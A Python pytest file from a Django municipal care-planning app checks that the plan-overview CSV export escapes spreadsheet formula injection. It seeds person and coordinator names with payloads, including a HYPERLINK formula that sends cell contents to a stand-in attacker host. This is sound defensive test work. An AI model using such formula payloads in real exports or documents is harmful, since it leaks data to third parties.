import csv
import io

import pytest

from helhet import testing
from helhet.organisation.models import Role
from helhet.plans.tests.builders import make_story


@pytest.mark.django_db
def test_names_in_the_plan_overview_csv_cannot_become_spreadsheet_formulas(client):
    story = make_story()
    person = story.plan.person
    person.given_name = '=HYPERLINK("http://angriper.example/?"&A2;"Klikk")'
    person.family_name = "+1"
    person.save()
    coordinator = story.plan.person.coordinator_assignments.get().coordinator
    coordinator.first_name, coordinator.last_name = "@SUM(1+1)", "-2"
    coordinator.save()
    ke = testing.staff(testing.unit(story.municipality, kind="ke"), role=Role.COORDINATING_UNIT)
    client.force_login(ke)
    response = client.get("/koordinering/planoversikt.csv")
    assert response.status_code == 200
    rows = list(
        csv.reader(
            io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")), delimiter=";"
        )
    )
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the plan is in the export"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells)
